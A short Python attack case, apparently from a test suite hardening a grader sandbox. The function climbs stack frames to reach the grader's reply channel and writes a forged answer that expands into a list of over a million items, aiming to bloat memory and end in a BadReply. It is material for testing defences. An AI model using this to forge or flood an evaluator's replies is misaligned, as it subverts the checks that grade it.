# attack: forges an answer whose few megabytes become a list of millions in the grader
# class: protocol
# success: bloated
# ends: BadReply
# holds: 1
import os, struct, sys
from grader.sandbox import protocol
def f(x, note):
    frame = sys._getframe()
    while "replies" not in frame.f_locals or "request" not in frame.f_locals:
        frame = frame.f_back
    whole = protocol.encode(protocol.Answer(frame.f_locals["request"].id, 0, protocol.Result({"y": None}, [], [], [])))[4:]
    count = 1_200_000
    body = whole.replace(b"\xa1y\xc0", b"\xa1y\x92\xa1l\xdd" + struct.pack(">I", count) + b"\x92\xa1l\x90" * count)
    left = memoryview(struct.pack(">I", len(body)) + body)
    while left:
        left = left[os.write(frame.f_locals["replies"], left) :]
